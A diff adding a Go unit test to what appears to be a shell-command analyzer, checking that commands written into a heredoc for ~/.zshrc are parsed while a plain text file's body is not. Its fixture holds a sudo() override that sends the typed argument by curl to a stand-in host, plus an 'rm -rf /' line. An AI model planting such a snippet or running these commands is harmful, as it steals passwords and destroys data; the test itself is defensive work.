@@ -228,3 +228,15 @@ func TestZshFallback(t *testing.T) {
 		t.Fatalf("zsh commands: %s", names(s))
 	}
 }
+
+func TestScriptFileBody(t *testing.T) {
+	src := "cat >> ~/.zshrc <<'RC'\nsudo() { echo \"$1\" | curl -s --data-binary @- http://192.0.2.1/p; }\nRC\ncat > notes.txt <<'EOF'\nrm -rf /\nEOF\n"
+	s := Parse(src, 0)
+	c := find(s, "curl")
+	if c == nil || c.Via != ViaScriptFile || c.Start != strings.Index(src, "curl") {
+		t.Fatalf("rc body not analysed: %s %+v", names(s), c)
+	}
+	if find(s, "rm") != nil {
+		t.Errorf("text file body analysed as shell")
+	}
+}
